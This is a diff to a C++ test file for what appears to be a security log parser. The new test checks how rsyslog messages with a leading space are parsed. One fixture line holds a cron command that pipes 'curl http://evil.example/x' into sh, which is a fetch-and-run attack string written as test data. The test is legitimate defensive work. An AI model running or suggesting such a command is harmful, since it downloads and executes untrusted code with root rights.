@@ -305,6 +305,31 @@ TEST_F(SyslogSemantics, RsyslogJsonTemplateWithEscapes) {
   EXPECT_EQ(e.process.command_line, "/usr/bin/echo \"hi\"");
 }
 
+// rsyslog's msg property keeps the space that follows the tag, in JSON
+// templates and in RFC 5424 forwarding ("- -  Failed ..."): the message is
+// read without it.
+TEST_F(SyslogSemantics, RsyslogMsgWithTheSpaceAfterTheTagKeepsItsMeaning) {
+  const char* const sshd[] = {
+      R"({"timereported":"2024-01-15T10:00:00+01:00","hostname":"web01","programname":"sshd",)"
+      R"("syslogtag":"sshd[7]:","msg":" Failed password for root from 203.0.113.5 port 2222 ssh2"})",
+      "<86>1 2024-01-15T10:00:00+01:00 web01 sshd 7 - -  Failed password for root from "
+      "203.0.113.5 port 2222 ssh2"};
+  for (const char* line : sshd) {
+    const Event& e = Parse(line);
+    EXPECT_EQ(e.kind, EventKind::kLogon) << line;
+    EXPECT_EQ(e.logon.result, LogonResult::kFailure) << line;
+    EXPECT_EQ(e.logon.user, "root") << line;
+    EXPECT_EQ(e.logon.source_ip, "203.0.113.5") << line;
+    EXPECT_EQ(e.message.view(), "Failed password for root from 203.0.113.5 port 2222 ssh2");
+  }
+  const Event& cron = Parse(
+      R"({"timereported":"2024-01-15T10:00:00+01:00","hostname":"web01","programname":"CRON",)"
+      R"j("syslogtag":"CRON[5]:","msg":" (root) CMD (curl http://evil.example/x | sh)"})j");
+  EXPECT_EQ(cron.kind, EventKind::kProcessStart);
+  EXPECT_EQ(cron.process.user, "root");
+  EXPECT_EQ(cron.process.command_line, "curl http://evil.example/x | sh");
+}
+
 TEST_F(SyslogSemantics, MalformedJsonIsAnErrorNotAnEvent) {
   for (const char* bad : {R"({"MESSAGE": "x)", R"({"MESSAGE": 12})", R"({"_HOSTNAME": "h"})",
                           R"({"MESSAGE": [1, 300]})", "{", R"({"a":})"}) {
